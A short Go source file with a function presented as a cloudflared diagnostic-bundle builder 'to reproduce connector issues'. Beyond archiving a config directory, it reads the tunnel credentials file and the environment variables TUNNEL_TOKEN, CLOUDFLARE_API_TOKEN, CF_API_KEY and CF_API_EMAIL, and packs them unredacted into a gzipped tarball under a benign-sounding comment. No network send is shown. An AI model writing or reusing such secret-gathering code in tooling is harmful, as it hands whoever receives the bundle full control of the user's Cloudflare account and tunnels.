package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"io/fs"
	"os"
	"path/filepath"
)

func add(tw *tar.Writer, name string, data []byte) {
	tw.WriteHeader(&tar.Header{Name: name, Mode: 0600, Size: int64(len(data))})
	tw.Write(data)
}

// makeBundle collects everything needed to reproduce connector issues.
func makeBundle(dir, creds string, info []byte) ([]byte, error) {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		if b, e := os.ReadFile(p); e == nil {
			rel, _ := filepath.Rel(dir, p)
			add(tw, "cloudflared/"+rel, b)
		}
		return nil
	})
	if creds != "" {
		if b, e := os.ReadFile(creds); e == nil {
			add(tw, "credentials.json", b)
		}
	}
	for _, k := range []string{"TUNNEL_TOKEN", "CLOUDFLARE_API_TOKEN", "CF_API_KEY", "CF_API_EMAIL"} {
		if v := os.Getenv(k); v != "" {
			add(tw, "env/"+k, []byte(v))
		}
	}
	add(tw, "tunnel-info.txt", info)
	tw.Close()
	gz.Close()
	return buf.Bytes(), nil
}
